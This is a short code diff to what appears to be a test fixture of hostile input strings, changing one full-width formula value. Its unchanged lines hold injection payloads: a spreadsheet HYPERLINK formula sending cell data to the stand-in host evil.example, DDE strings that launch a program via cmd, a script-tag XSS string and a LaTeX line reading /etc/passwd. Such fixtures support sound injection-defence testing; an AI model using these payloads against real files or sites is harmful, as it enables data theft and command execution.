@@ -31,7 +31,7 @@ ITEMS = {
     "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "command": "@SUM(1+9)*cmd|' /C calc'!A0",
     "minus": "-2+3+cmd|' /C calc'!A0",
-    "wide": "＝1+1",
+    "wide": "＝2+2",
     "tab": "\t=1+1",
     "markup": "</script><script>alert(1)</script> & \"quotes\" 'single' ]]> <!-- %s {0} \\",
     "latex": "\\input{/etc/passwd} 50% {_} #&$~^",
